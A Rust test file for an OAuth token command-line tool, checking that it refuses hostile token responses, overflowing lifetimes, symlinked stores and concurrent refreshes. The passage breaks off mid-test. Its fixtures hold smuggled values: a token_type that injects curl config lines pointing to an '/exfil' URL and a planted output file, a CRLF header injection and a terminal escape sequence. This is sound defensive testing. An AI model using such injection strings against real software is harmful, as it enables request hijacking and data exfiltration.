//! Trust under hostile input: a token endpoint that tries to inject curl
//! options or headers, absurd lifetimes, signals during `oauthctl curl`, and
//! twenty processes racing one refresh. Each test is named after what it
//! guards.

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::{Arc, Condvar, Mutex};
use std::time::Duration;

use serde_json::{Value, json};

use crate::support::fake::{FakeProvider, Recorded, Reply, State};
use crate::support::{
    Run, TestEnv, assert_code, assert_ok, bounded, printed_token, skip, stderr, stdout, wait_until,
};

const CLIENT_ID: &str = "hostile-client";
const CLIENT_SECRET: &str = "hostile-secret";
const TOKEN_PATH: &str = "/token";
const API_PATH: &str = "/api";

/// A token endpoint answering every client-credentials POST with `body`, and
/// an API at [`API_PATH`] that counts what reaches it.
fn answering(body: Value) -> FakeProvider {
    FakeProvider::start(State::default(), move |req, st| {
        if req.path == API_PATH {
            return Reply::json(200, &json!({"ok": true}));
        }
        if req.method != "POST" || req.path != TOKEN_PATH {
            return Reply::not_found();
        }
        st.hits += 1;
        Reply::json(200, &body)
    })
}

/// A client-credentials profile `ci` for `provider`, the secret in the env.
fn ci_env(provider: &FakeProvider) -> TestEnv {
    let env = TestEnv::new();
    env.write_config(&format!(
        r#"
[profiles.ci]
token_url = "{}"
client_id = "{CLIENT_ID}"
grant = "client_credentials"
"#,
        provider.url(TOKEN_PATH)
    ));
    env
}

fn run(env: &TestEnv, args: &[&str]) -> Output {
    env.cmd()
        .env("OAUTHCTL_CLIENT_SECRET", CLIENT_SECRET)
        .args(args)
        .output()
        .unwrap()
}

fn token_files(env: &TestEnv) -> Vec<PathBuf> {
    std::fs::read_dir(env.data_dir().join("tokens"))
        .map(|entries| entries.map(|e| e.unwrap().path()).collect())
        .unwrap_or_default()
}

#[track_caller]
fn assert_no_panic(out: &Output) {
    let err = stderr(out);
    assert!(!err.contains("panicked"), "oauthctl panicked:\n{err}");
}

/// Exit 3, one clean line, nothing on stdout, nothing stored.
#[track_caller]
fn assert_refused(env: &TestEnv, out: &Output, field: &str) {
    assert_code(out, 3);
    assert_no_panic(out);
    assert!(stdout(out).is_empty(), "stdout: {:?}", stdout(out));
    let err = stderr(out);
    assert!(err.contains(field) && err.contains("refused"), "{err}");
    assert!(
        err.trim().lines().count() == 1,
        "one line on stderr:\n{err}"
    );
    assert!(
        token_files(env).is_empty(),
        "stored: {:?}",
        token_files(env)
    );
}

#[test]
fn curl_option_injection_through_token_type_is_refused_and_nothing_stored() {
    let dir = tempfile::tempdir().unwrap();
    let planted = dir.path().join("planted");
    let provider = answering(json!({
        "access_token": "fine-token",
        "token_type": format!("Bearer X\nurl = http://127.0.0.2:9/exfil\noutput = {}\n#", planted.display()),
        "expires_in": 3600,
    }));
    let env = ci_env(&provider);
    let out = run(
        &env,
        &["curl", "-p", "ci", "--", "-sS", &provider.url(API_PATH)],
    );
    assert_refused(&env, &out, "token_type");
    assert!(!planted.exists(), "curl wrote the attacker's file");
    assert!(
        provider.requests_to(API_PATH).is_empty(),
        "a request went out with the hostile token"
    );
    let out = run(&env, &["token", "-p", "ci", "-o", "header"]);
    assert_refused(&env, &out, "token_type");
}

#[test]
fn access_tokens_outside_b64token_are_refused_and_nothing_stored() {
    for token in [
        "tok\nurl = http://127.0.0.2:9/",
        "tok\r\nX-Injected: yes",
        "tok\"en",
        "tok en",
        "\u{1b}]0;owned\u{7}",
    ] {
        let provider = answering(json!({"access_token": token, "token_type": "bearer"}));
        let env = ci_env(&provider);
        for args in [
            &["client-credentials", "-p", "ci", "-o", "header"][..],
            &["token", "-p", "ci", "-o", "env"][..],
        ] {
            let out = run(&env, args);
            assert_refused(&env, &out, "access_token");
        }
    }
}

#[test]
fn a_stored_token_with_a_newline_is_never_printed_or_handed_to_curl() {
    let provider = answering(json!({"access_token": "good-token", "expires_in": 3600}));
    let env = ci_env(&provider);
    assert_eq!(
        printed_token(&run(&env, &["token", "-p", "ci"])),
        "good-token"
    );
    // As an older version, or a hand edit, could have left it.
    let [file] = token_files(&env).try_into().expect("one token file");
    let text = std::fs::read_to_string(&file).unwrap();
    std::fs::write(
        &file,
        text.replace("good-token", "good\\nurl = http://127.0.0.2:9/"),
    )
    .unwrap();
    for args in [
        &["token", "-p", "ci", "-o", "header"][..],
        &["token", "-p", "ci"][..],
        &["curl", "-p", "ci", "--", "-sS", &provider.url(API_PATH)][..],
    ] {
        let out = run(&env, args);
        assert_code(&out, 1);
        assert_no_panic(&out);
        assert!(stdout(&out).is_empty(), "{args:?}: {:?}", stdout(&out));
        assert!(stderr(&out).contains("refusing"), "{}", stderr(&out));
    }
    assert!(provider.requests_to(API_PATH).is_empty());
}

#[test]
fn absurd_lifetimes_neither_panic_nor_make_a_token_eternal() {
    for expires_in in [
        json!(18446744073709551616_f64),
        json!(1e19),
        json!(1e308),
        json!("inf"),
        json!("18446744073709551616"),
    ] {
        let provider = answering(json!({"access_token": "long-lived", "expires_in": expires_in}));
        let env = ci_env(&provider);
        for args in [
            &["client-credentials", "-p", "ci", "-o", "json"][..],
            &["token", "-p", "ci", "-o", "env"][..],
            &["status", "-o", "json"][..],
            &["token", "-p", "ci", "-o", "json"][..],
        ] {
            let out = run(&env, args);
            assert_ok(&out);
            assert_no_panic(&out);
        }
        let out = run(&env, &["token", "-p", "ci", "-o", "json"]);
        let json: Value = serde_json::from_str(&stdout(&out)).unwrap();
        let left = json["expires_in"]
            .as_i64()
            .unwrap_or_else(|| panic!("{expires_in}: expires_in is not an integer: {json}"));
        // "inf" is not a number: it expires now. The others are clamped to
        // ten years, never left to overflow.
        let expected = if expires_in == "inf" {
            0..=0
        } else {
            1..=10 * 366 * 24 * 3600
        };
        assert!(
            expected.contains(&left),
            "{expires_in}: expires_in {left}, not in {expected:?}"
        );
    }
}

#[test]
fn nonsense_lifetimes_mean_expires_now_so_client_credentials_mint_again() {
    for expires_in in [
        json!(-1),
        json!(0),
        json!("NaN"),
        json!("soon"),
        json!(true),
    ] {
        let provider = answering(json!({"access_token": "short", "expires_in": expires_in}));
        let env = ci_env(&provider);
        for _ in 0..2 {
            assert_eq!(printed_token(&run(&env, &["token", "-p", "ci"])), "short");
        }
        assert_eq!(
            provider.requests_to(TOKEN_PATH).len(),
            2,
            "{expires_in}: a token that expires now was trusted"
        );
    }
}

/// A JWT whose claims are `claims` (unsigned: inspect does not verify).
fn jwt(claims: &Value) -> String {
    use base64::Engine;
    let encode = |v: &Value| {
        base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(v.to_string().as_bytes())
    };
    format!(
        "{}.{}.c2ln",
        encode(&json!({"alg": "none", "typ": "JWT"})),
        encode(claims)
    )
}

#[test]
fn jwt_times_past_any_calendar_do_not_panic_inspect_or_status() {
    for exp in [
        json!(u64::MAX),
        json!(i64::MAX),
        json!(1e19),
        json!(253402300800_u64),
        json!(-1),
    ] {
        let token = jwt(&json!({"sub": "robot", "exp": exp, "iat": exp, "nbf": exp}));
        let provider = answering(json!({"access_token": token, "expires_in": 3600}));
        let env = ci_env(&provider);
        assert_ok(&run(&env, &["token", "-p", "ci"]));
        for args in [&["inspect", "-p", "ci"][..], &["status", "-o", "json"][..]] {
            let out = run(&env, args);
            assert_ok(&out);
            assert_no_panic(&out);
        }
    }
}

// ---------------------------------------------------------------------------
// Twenty processes, one refresh

/// Holds the refresh answer until the test opens it, so that every process
/// is known to be waiting on the lock first.
#[derive(Default)]
struct Gate {
    open: Mutex<bool>,
    opened: Condvar,
}

impl Gate {
    fn wait(&self) {
        let guard = self.open.lock().unwrap();
        // Bounded: a test that never opens it must still end.
        let _ = self
            .opened
            .wait_timeout_while(guard, Duration::from_secs(60), |open| !*open);
    }

    fn open(&self) {
        *self.open.lock().unwrap() = true;
        self.opened.notify_all();
    }
}

/// Refresh tokens rotate, and every refresh revokes the access tokens issued
/// before it (as providers that bind access tokens to the refresh do). The
/// refresh answer waits for `gate`.
fn rotating_provider(gate: Arc<Gate>) -> FakeProvider {
    FakeProvider::start(State::default(), move |req: &Recorded, st| {
        if req.path == API_PATH {
            let ok = req.bearer().is_some_and(|t| st.access_tokens.contains(t));
            return Reply::json(if ok { 200 } else { 401 }, &json!({"ok": ok}));
        }
        if req.method != "POST" || req.path != TOKEN_PATH {
            return Reply::not_found();
        }
        let presented = req.param("refresh_token").unwrap_or_default();
        if !st.refresh_tokens.remove(&presented) {
            return Reply::oauth_error(400, "invalid_grant", "unknown refresh token");
        }
        st.hits += 1;
        if st.hits > 1 {
            gate.wait();
        }
        let n = st.hits;
        st.access_tokens.clear();
        st.access_tokens.insert(format!("access-{n}"));
        st.refresh_tokens.insert(format!("refresh-{n}"));
        Reply::json(
            200,
            &json!({
                "access_token": format!("access-{n}"),
                "refresh_token": format!("refresh-{n}"),
                "token_type": "Bearer",
                "expires_in": 3600,
            }),
        )
    })
}

#[test]
fn waiters_use_the_token_renewed_meanwhile_so_twenty_calls_cause_one_refresh() {
    let gate = Arc::new(Gate::default());
    let provider = rotating_provider(Arc::clone(&gate));
    provider.state().refresh_tokens.insert("refresh-0".into());
    let env = TestEnv::new();
    env.write_config(&format!(
        "[profiles.work]\ntoken_url = \"{}\"\nclient_id = \"{CLIENT_ID}\"\n",
        provider.url(TOKEN_PATH)
    ));
    let out = env
        .cmd()
        .args(["login", "-p", "work", "--with-refresh-token", "-"])
        .stdin_text("refresh-0\n")
        .output()
        .unwrap();
    assert_ok(&out);

    // A --min-ttl beyond the token's lifetime: every call wants a refresh.
    let mut children: Vec<_> = (0..20)
        .map(|_| {
            env.cmd()
                .args(["-vv", "token", "-p", "work", "--min-ttl", "86400"])
                .stdout(Stdio::piped())
                .stderr(Stdio::piped())
                .spawn()
                .unwrap()
        })
        .collect();
    let (tx, rx) = std::sync::mpsc::channel();
    let readers: Vec<_> = children
        .iter_mut()
        .map(|child| {
            let tx = tx.clone();
            let err = child.stderr.take().unwrap();
            std::thread::spawn(move || {
                use std::io::BufRead;
                let mut all = String::new();
                for line in std::io::BufReader::new(err).lines().map_while(Result::ok) {
                    if line.contains("waiting for another oauthctl process") {
                        let _ = tx.send(());
                    }
                    all.push_str(&line);
                    all.push('\n');
                }
                all
            })
        })
        .collect();
    // One process holds the lock and its refresh is held at the gate; the
    // other nineteen must all be waiting for the lock before it opens.
    let mut waiting = 0;
    wait_until(
        "19 processes waiting on the lock",
        Duration::from_secs(60),
        || {
            while rx.try_recv().is_ok() {
                waiting += 1;
            }
            waiting >= 19
        },
    );
    gate.open();
    let mut tokens = Vec::new();
    for (child, reader) in children.into_iter().zip(readers) {
        let out = child.wait_with_output().unwrap();
        let err = reader.join().unwrap();
        assert!(out.status.success(), "{}: {err}", out.status);
        tokens.push(stdout(&out).trim().to_owned());
    }
    assert_eq!(
        provider.requests_to(TOKEN_PATH).len(),
        2,
        "the login's refresh, then exactly one for twenty callers"
    );
    let current = provider.state().access_tokens.clone();
    for token in &tokens {
        assert!(
            current.contains(token),
            "a caller printed {token}, which the provider no longer accepts ({current:?})"
        );
    }
}

// ---------------------------------------------------------------------------
// Signals during `oauthctl curl`

/// A curl wrapper that records its pid, then becomes the real curl.
fn pid_recording_curl(env: &TestEnv) -> (String, PathBuf) {
    let bin = env.path().join("wrapper-bin");
    std::fs::create_dir_all(&bin).unwrap();
    let pidfile = env.path().join("curl.pid");
    let real = std::env::split_paths(&std::env::var_os("PATH").unwrap())
        .map(|d| d.join("curl"))
        .find(|p| p.is_file())
        .expect("curl on PATH");
    let script = bin.join("curl");
    std::fs::write(
        &script,
        format!(
            "#!/bin/sh\necho $$ > '{}'\nexec '{}' \"$@\"\n",
            pidfile.display(),
            real.display()
        ),
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
    let path = format!(
        "{}:{}",
        bin.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    (path, pidfile)
}

fn curl_workdirs(env: &TestEnv) -> Vec<PathBuf> {
    std::fs::read_dir(env.path().join("runtime"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| {
            p.file_name()
                .is_some_and(|n| n.to_string_lossy().starts_with("oauthctl-curl-"))
        })
        .collect()
}

fn alive(pid: u32) -> bool {
    Path::new(&format!("/proc/{pid}")).exists()
}

fn mode(path: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
}

/// How `oauthctl curl` runs curl.
#[derive(Clone, Copy, PartialEq)]
enum CurlMode {
    /// The default: curl replaces oauthctl.
    Exec,
    /// `--retry-rejected`: oauthctl stays curl's parent, with a work dir.
    Supervised,
}

/// Starts `oauthctl curl` on an API that never answers, waits until curl's
/// request is in, checks what is on disk meanwhile, sends `signal` (to the
/// process group when `group`), and checks that nothing is left behind.
fn interrupt_curl(how: CurlMode, signal: &str, group: bool, expected_code: i32) {
    let provider = FakeProvider::start(State::default(), |req, _st| {
        if req.path == "/slow" {
            return Reply::json(200, &json!({"late": true})).delayed(Duration::from_secs(60));
        }
        Reply::json(
            200,
            &json!({"access_token": "signal-token", "token_type": "Bearer", "expires_in": 3600}),
        )
    });
    let env = ci_env(&provider);
    let (path, pidfile) = pid_recording_curl(&env);
    let mut cmd = env.cmd();
    cmd.env("PATH", &path)
        .env("OAUTHCTL_CLIENT_SECRET", CLIENT_SECRET)
        .args(["curl", "-p", "ci"])
        .args((how == CurlMode::Supervised).then_some("--retry-rejected"))
        .args(["--", "-sS", &provider.url("/slow")])
        .stdout(Stdio::null())
        .stderr(Stdio::piped());
    if group {
        cmd.process_group(0);
    }
    let mut child = cmd.spawn().unwrap();
    wait_until("curl's request", Duration::from_secs(30), || {
        !provider.requests_to("/slow").is_empty()
    });
    let curl_pid: u32 = std::fs::read_to_string(&pidfile)
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    match how {
        CurlMode::Exec => {
            assert_eq!(curl_pid, child.id(), "curl did not replace oauthctl");
            assert!(curl_workdirs(&env).is_empty(), "a work dir without a retry");
        }
        CurlMode::Supervised => {
            let [workdir] = curl_workdirs(&env).try_into().expect("one work dir");
            assert_eq!(mode(&workdir), 0o700, "the work dir");
            for entry in std::fs::read_dir(&workdir).unwrap() {
                let path = entry.unwrap().path();
                assert_eq!(mode(&path), 0o600, "{}", path.display());
                let text = std::fs::read_to_string(&path).unwrap_or_default();
                assert!(!text.contains("signal-token"), "the token is on disk");
            }
        }
    }
    let target = if group {
        format!("-{}", child.id())
    } else {
        child.id().to_string()
    };
    let sent = bounded(Command::new("kill"))
        .args([&format!("-{signal}"), "--", &target])
        .status()
        .unwrap();
    assert!(sent.success());
    let status = child
        .wait_timeout(Duration::from_secs(30))
        .unwrap()
        .expect("oauthctl ended after the signal");
    let err = stderr(&child.wait_with_output().unwrap());
    assert!(!err.contains("panicked"), "{err}");
    use std::os::unix::process::ExitStatusExt;
    let code = status
        .code()
        .or_else(|| status.signal().map(|s| 128 + s))
        .unwrap();
    assert_eq!(code, expected_code, "{status}: {err}");
    assert!(!alive(curl_pid), "curl {curl_pid} outlived oauthctl");
    assert!(
        curl_workdirs(&env).is_empty(),
        "left behind: {:?}",
        curl_workdirs(&env)
    );
}

#[test]
fn sigterm_to_oauthctl_curl_ends_curl_and_leaves_nothing_on_disk() {
    interrupt_curl(CurlMode::Exec, "TERM", false, 143);
    interrupt_curl(CurlMode::Supervised, "TERM", false, 143);
}

#[test]
fn sighup_to_oauthctl_curl_ends_curl_and_leaves_nothing_on_disk() {
    interrupt_curl(CurlMode::Exec, "HUP", false, 129);
    interrupt_curl(CurlMode::Supervised, "HUP", false, 129);
}

#[test]
fn ctrl_c_to_the_process_group_ends_curl_and_leaves_nothing_on_disk() {
    interrupt_curl(CurlMode::Exec, "INT", true, 130);
    interrupt_curl(CurlMode::Supervised, "INT", true, 130);
}

// ---------------------------------------------------------------------------
// Nothing stored is ever lost by a failed save

/// The refresh handler of a provider whose refresh tokens rotate; `before`
/// runs before each refresh is answered (to fill a disk, kill a keychain).
fn rotating_with(before: impl Fn(u32) + Send + 'static) -> FakeProvider {
    FakeProvider::start(State::default(), move |req: &Recorded, st| {
        if req.method != "POST" || req.path != TOKEN_PATH {
            return Reply::not_found();
        }
        let presented = req.param("refresh_token").unwrap_or_default();
        if !st.refresh_tokens.remove(&presented) {
            return Reply::oauth_error(400, "invalid_grant", "unknown refresh token");
        }
        st.hits += 1;
        let n = st.hits;
        before(n);
        st.access_tokens.insert(format!("access-{n}"));
        st.refresh_tokens.insert(format!("refresh-{n}"));
        Reply::json(
            200,
            &json!({
                "access_token": format!("access-{n}"),
                "refresh_token": format!("refresh-{n}"),
                "token_type": "Bearer",
                "expires_in": 3600,
            }),
        )
    })
}

fn work_profile(env: &TestEnv, provider: &FakeProvider) {
    env.write_config(&format!(
        "[profiles.work]\ntoken_url = \"{}\"\nclient_id = \"{CLIENT_ID}\"\n",
        provider.url(TOKEN_PATH)
    ));
}

/// A `work` profile at a `rotating_with` provider, logged in with its
/// refresh token `refresh-0`; every run gets `vars` on top of the test env.
struct Work {
    env: TestEnv,
    vars: Vec<(&'static str, std::ffi::OsString)>,
}

impl Work {
    fn login(provider: &FakeProvider, vars: &[(&'static str, &std::ffi::OsStr)]) -> Work {
        provider.state().refresh_tokens.insert("refresh-0".into());
        let env = TestEnv::new();
        work_profile(&env, provider);
        let work = Work {
            env,
            vars: vars.iter().map(|(k, v)| (*k, v.to_os_string())).collect(),
        };
        let out = work
            .cmd()
            .args(["login", "-p", "work", "--with-refresh-token", "-"])
            .stdin_text("refresh-0\n")
            .output()
            .unwrap();
        assert_ok(&out);
        work
    }

    fn cmd(&self) -> Run {
        let mut cmd = self.env.cmd();
        for (name, value) in &self.vars {
            cmd.env(name, value);
        }
        cmd
    }

    fn run(&self, args: &[&str]) -> Output {
        self.cmd().args(args).output().unwrap()
    }
}

/// A small tmpfs, unmounted on drop. Mounting needs root: without it the
/// tests that need one are skipped, unless `OAUTHCTL_REQUIRE_TMPFS=1`
/// (scripts/test.sh) makes that a failure.
struct Tmpfs {
    dir: tempfile::TempDir,
}

impl Tmpfs {
    fn mount() -> Option<Tmpfs> {
        let dir = tempfile::tempdir().unwrap();
        let mounted = bounded(Command::new("mount"))
            .args(["-t", "tmpfs", "-o", "size=1m,mode=0700", "tmpfs"])
            .arg(dir.path())
            .limit(Duration::from_secs(30))
            .output();
        match mounted {
            Ok(out) if out.status.success() => Some(Tmpfs { dir }),
            other => {
                let why = match other {
                    Ok(out) => stderr(&out).trim().to_owned(),
                    Err(err) => err.to_string(),
                };
                skip(
                    &format!("cannot mount a tmpfs ({why})"),
                    &["OAUTHCTL_REQUIRE_TMPFS"],
                );
                None
            }
        }
    }

    fn path(&self) -> &Path {
        self.dir.path()
    }
}

impl Drop for Tmpfs {
    fn drop(&mut self) {
        let _ = bounded(Command::new("umount"))
            .arg("-l")
            .arg(self.dir.path())
            .limit(Duration::from_secs(30))
            .status();
    }
}

/// Fills the file system holding `dir` to the last byte.
fn fill(dir: &Path) -> PathBuf {
    use std::io::Write;
    let path = dir.join("filler");
    let mut file = std::fs::File::create(&path).unwrap();
    let chunk = vec![0u8; 4096];
    while file.write_all(&chunk).is_ok() {}
    while file.write_all(&[0]).is_ok() {}
    let _ = file.sync_all();
    path
}

#[test]
fn a_full_disk_fails_the_refresh_before_the_refresh_token_is_spent() {
    let Some(disk) = Tmpfs::mount() else {
        return;
    };
    let provider = rotating_with(|_| {});
    let data = disk.path().join("oauthctl");
    let work = Work::login(&provider, &[("OAUTHCTL_DATA_DIR", data.as_os_str())]);
    let filler = fill(disk.path());

    let out = work.run(&["refresh", "-p", "work"]);
    assert_code(&out, 1);
    assert_no_panic(&out);
    assert!(
        stderr(&out).contains("nothing was requested"),
        "{}",
        stderr(&out)
    );
    assert_eq!(
        provider.requests_to(TOKEN_PATH).len(),
        1,
        "the refresh token was spent on a disk that could not take the new one"
    );

    std::fs::remove_file(filler).unwrap();
    let out = work.run(&["refresh", "-p", "work"]);
    assert_eq!(printed_token(&out), "access-2");
}

#[test]
fn a_save_that_fails_after_the_refresh_keeps_the_new_tokens_and_the_next_call_uses_them() {
    let Some(disk) = Tmpfs::mount() else {
        return;
    };
    let mount = disk.path().to_owned();
    let filler = Arc::new(Mutex::new(None));
    let provider = {
        let filler = Arc::clone(&filler);
        rotating_with(move |n| {
            // The disk fills up while the provider works on the refresh.
            if n == 2 {
                *filler.lock().unwrap() = Some(fill(&mount));
            }
        })
    };
    let data = disk.path().join("oauthctl");
    let work = Work::login(&provider, &[("OAUTHCTL_DATA_DIR", data.as_os_str())]);

    let out = work.run(&["refresh", "-p", "work"]);
    assert_eq!(printed_token(&out), "access-2");
    let err = stderr(&out);
    assert!(err.contains("kept them in"), "{err}");
    let rescue = work.env.path().join("runtime/oauthctl/rescue");
    let [rescued] = std::fs::read_dir(&rescue)
        .unwrap_or_else(|e| panic!("{}: {e}\n{err}", rescue.display()))
        .map(|e| e.unwrap().path())
        .collect::<Vec<_>>()
        .try_into()
        .expect("one rescued set");
    assert_eq!(mode(&rescued), 0o600);
    assert_eq!(mode(&rescue), 0o700);

    // The disk is still full: the rescued set is what the next call uses.
    assert_eq!(
        printed_token(&work.run(&["token", "-p", "work"])),
        "access-2"
    );
    std::fs::remove_file(filler.lock().unwrap().take().unwrap()).unwrap();
    // The rotated refresh token was not lost: the provider accepts it.
    let out = work.run(&["refresh", "-p", "work"]);
    assert_eq!(printed_token(&out), "access-3");
    assert!(!rescued.exists(), "the rescued copy outlived a good save");
    assert_eq!(
        printed_token(&work.run(&["token", "-p", "work"])),
        "access-3"
    );
}

/// A Secret Service of this test's own (dbus-daemon + gnome-keyring), so that
/// killing it harms no other test.
struct PrivateKeychain {
    dir: tempfile::TempDir,
    dbus: std::process::Child,
    keyring: Arc<Mutex<Option<std::process::Child>>>,
    address: String,
}

impl PrivateKeychain {
    fn start() -> Option<PrivateKeychain> {
        let have = |cmd: &str| {
            bounded(Command::new("sh"))
                .args(["-c", &format!("command -v {cmd}")])
                .limit(Duration::from_secs(30))
                .status()
                .is_ok_and(|s| s.success())
        };
        let missing: Vec<&str> = ["dbus-daemon", "gnome-keyring-daemon", "dbus-send"]
            .into_iter()
            .filter(|cmd| !have(cmd))
            .collect();
        if !missing.is_empty() {
            skip(
                &format!(
                    "no {} (Debian packages dbus-daemon dbus-bin gnome-keyring)",
                    missing.join(" or ")
                ),
                &["OAUTHCTL_REQUIRE_KEYRING"],
            );
            return None;
        }
        let dir = tempfile::tempdir().unwrap();
        let bus = dir.path().join("bus");
        let conf = dir.path().join("bus.conf");
        std::fs::write(
            &conf,
            format!(
                "<!DOCTYPE busconfig PUBLIC \"-//freedesktop//DTD D-Bus Bus Configuration 1.0//EN\" \"http://www.freedesktop.org/standards/dbus/1.0/busconfig.dtd\">\n<busconfig><type>session</type><listen>unix:path={}</listen><auth>EXTERNAL</auth><policy context=\"default\"><allow send_destination=\"*\" eavesdrop=\"true\"/><allow eavesdrop=\"true\"/><allow own=\"*\"/></policy></busconfig>\n",
                bus.display()
            ),
        )
        .unwrap();
        let dbus = Command::new("dbus-daemon")
            .arg(format!("--config-file={}", conf.display()))
            .args(["--nofork", "--nopidfile"])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        wait_until("the private bus", Duration::from_secs(10), || bus.exists());
        let address = format!("unix:path={}", bus.display());
        for sub in ["data", "run"] {
            std::fs::create_dir_all(dir.path().join(sub)).unwrap();
        }
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(
            dir.path().join("run"),
            std::fs::Permissions::from_mode(0o700),
        )
        .unwrap();
        let mut keyring = Command::new("gnome-keyring-daemon")
            .args(["--foreground", "--unlock", "--components=secrets"])
            .env("DBUS_SESSION_BUS_ADDRESS", &address)
            .env("XDG_DATA_HOME", dir.path().join("data"))
            .env("XDG_RUNTIME_DIR", dir.path().join("run"))
            .stdin(Stdio::piped())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        {
            use std::io::Write;
            let mut stdin = keyring.stdin.take().unwrap();
            stdin.write_all(b"private-keychain-password").unwrap();
        }
        let keychain = PrivateKeychain {
            dir,
            dbus,
            keyring: Arc::new(Mutex::new(Some(keyring))),
            address,
        };
        wait_until(
            "the private keychain to unlock",
            Duration::from_secs(30),
            || {
                bounded(Command::new("dbus-send"))
                    .env("DBUS_SESSION_BUS_ADDRESS", &keychain.address)
                    .args([
                        "--session",
                        "--print-reply",
                        "--dest=org.freedesktop.secrets",
                        "/org/freedesktop/secrets/aliases/default",
                        "org.freedesktop.DBus.Properties.Get",
                        "string:org.freedesktop.Secret.Collection",
                        "string:Locked",
                    ])
                    .stderr(Stdio::null())
                    .limit(Duration::from_secs(10))
                    .output()
                    .is_ok_and(|out| String::from_utf8_lossy(&out.stdout).contains("boolean false"))
            },
        );
        Some(keychain)
    }

    /// A handle that kills the keyring daemon (from the provider's thread).
    fn killer(&self) -> impl Fn() + Send + 'static {
        let keyring = Arc::clone(&self.keyring);
        move || {
            if let Some(mut child) = keyring.lock().unwrap().take() {
                let _ = child.kill();
                let _ = child.wait();
            }
        }
    }
}

impl Drop for PrivateKeychain {
    fn drop(&mut self) {
        (self.killer())();
        let _ = self.dbus.kill();
        let _ = self.dbus.wait();
        let _ = self.dir.path();
    }
}

#[test]
fn a_keychain_that_dies_during_the_refresh_loses_no_token() {
    let Some(keychain) = PrivateKeychain::start() else {
        return;
    };
    let kill = keychain.killer();
    let provider = rotating_with(move |n| {
        if n == 2 {
            kill();
        }
    });
    let bus = std::ffi::OsString::from(&keychain.address);
    let work = Work::login(
        &provider,
        &[
            ("OAUTHCTL_STORE", "keyring".as_ref()),
            ("DBUS_SESSION_BUS_ADDRESS", &bus),
        ],
    );
    assert!(
        token_files(&work.env).is_empty(),
        "the login went to files, not the keychain"
    );

    let out = work.run(&["refresh", "-p", "work"]);
    assert_eq!(printed_token(&out), "access-2");
    assert!(stderr(&out).contains("kept them in"), "{}", stderr(&out));
    let rescued = work.env.data_dir().join("rescue");
    assert_eq!(mode(&rescued), 0o700);

    // The keychain is gone; the rescued set still serves...
    assert_eq!(
        printed_token(&work.run(&["token", "-p", "work"])),
        "access-2"
    );
    // ...and no grant is spent while the keychain cannot take its result.
    let out = work.run(&["refresh", "-p", "work"]);
    assert_code(&out, 1);
    assert!(
        stderr(&out).contains("nothing was requested"),
        "{}",
        stderr(&out)
    );
    assert_eq!(provider.requests_to(TOKEN_PATH).len(), 2);
    // The rotated refresh token is intact: a file store takes it from here.
    let out = work
        .env
        .cmd()
        .env("OAUTHCTL_STORE", "file")
        .args(["refresh", "-p", "work"])
        .output()
        .unwrap();
    assert_eq!(printed_token(&out), "access-3");
}

// ---------------------------------------------------------------------------
// Smaller holes

#[test]
fn a_group_writable_data_dir_is_made_private_with_a_warning() {
    use std::os::unix::fs::PermissionsExt;
    let provider = answering(json!({"access_token": "t", "expires_in": 3600}));
    let env = ci_env(&provider);
    let data = env.data_dir();
    std::fs::create_dir_all(&data).unwrap();
    std::fs::set_permissions(&data, std::fs::Permissions::from_mode(0o777)).unwrap();
    let out = run(&env, &["token", "-p", "ci"]);
    assert_eq!(printed_token(&out), "t");
    assert_eq!(mode(&data), 0o700);
    assert!(
        stderr(&out).contains(&data.display().to_string()) && stderr(&out).contains("private"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn symlinked_store_dirs_and_token_files_are_not_followed() {
    let provider = answering(json!({"access_token": "t", "expires_in": 3600}));
    // A symlinked tokens/ directory: refused, nothing written where it points.
    let env = ci_env(&provider);
    let elsewhere = env.path().join("elsewhere");
    std::fs::create_dir_all(&elsewhere).unwrap();
    std::fs::create_dir_all(env.data_dir()).unwrap();
    std::os::unix::fs::symlink(&elsewhere, env.data_dir().join("tokens")).unwrap();
    let out = run(&env, &["token", "-p", "ci"]);
    assert_code(&out, 1);
    assert!(stderr(&out).contains("symlink"), "{}", stderr(&out));
    assert_eq!(std::fs::read_dir(&elsewhere).unwrap().count(), 0);
    assert!(
        provider.requests_to(TOKEN_PATH).is_empty(),
        "a grant was spent on a store that cannot be written"
    );

    // A token file that is a symlink (to a planted set): not read.
    let env = ci_env(&provider);
    assert_eq!(printed_token(&run(&env, &["token", "-p", "ci"])), "t");
    let [file] = token_files(&env).try_into().expect("one token file");
    let planted = env.path().join("planted.json");
    std::fs::copy(&file, &planted).unwrap();
    std::fs::remove_file(&file).unwrap();
    std::os::unix::fs::symlink(&planted, &file).unwrap();
    let out = run(&env, &["token", "-p", "ci"]);
    assert_code(&out, 1);
    assert!(stderr(&out).contains("symlink"), "{}", stderr(&out));

    // A symlinked lock file: not followed either.
    let env = ci_env(&provider);
    let locks = env.data_dir().join("locks");
    std::fs::create_dir_all(&locks).unwrap();
    let target = env.path().join("lock-target");
    assert_ok(&run(&env, &["token", "-p", "ci"]));
    let [lock] = std::fs::read_dir(&locks)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect::<Vec<_>>()
        .try_into()
        .expect("one lock file");
    std::fs::remove_file(&lock).unwrap();
    std::os::unix::fs::symlink(&target, &lock).unwrap();
    let out = run(&env, &["token", "-p", "ci", "--min-ttl", "999999"]);
    assert_code(&out, 1);
    assert!(stderr(&out).contains("symlink"), "{}", stderr(&out));
    assert!(!target.exists(), "the lock followed the symlink");
}

#[test]
fn error_messages_never_echo_what_the_request_carried() {
    use base64::Engine;
    let basic =
        base64::engine::general_purpose::STANDARD.encode(format!("{CLIENT_ID}:{CLIENT_SECRET}"));
    for (status, content_type, body) in [
        (
            400,
            "application/json",
            json!({
                "error": "invalid_client",
                "error_description": format!("secret {CLIENT_SECRET} does not match; got Basic {basic}"),
                "error_uri": format!("https://docs.example/?secret={CLIENT_SECRET}"),
            })
